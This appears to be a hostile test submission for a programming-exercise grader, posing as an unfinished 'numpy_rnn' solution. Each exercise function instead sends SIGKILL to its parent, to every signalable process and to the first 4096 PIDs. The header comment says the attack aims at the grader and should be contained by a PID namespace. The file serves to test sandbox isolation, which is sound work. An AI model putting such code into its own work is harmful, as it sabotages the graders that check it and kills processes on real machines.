# attack: SIGKILL to its parent (os.getppid()), to every process it may signal (-1) and to the
#   first 4096 PIDs, hoping to hit the grader or the zygote
# expect: in its own PID namespace it reaches nothing (it is PID 1 there, which even its own
#   SIGKILL spares); the grader and the zygote live on; zero
# exercise: numpy_rnn
# message: is not implemented yet
import os
import signal


def init_rnn_params(*args, **kwargs):
    for pid in range(2, 4096):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.kill(os.getppid(), signal.SIGKILL)  # PID 1's parent is 0 here: its own process group
    raise NotImplementedError


rnn_cell_step = rnn_forward = rnn_weights_from_torch = init_rnn_params
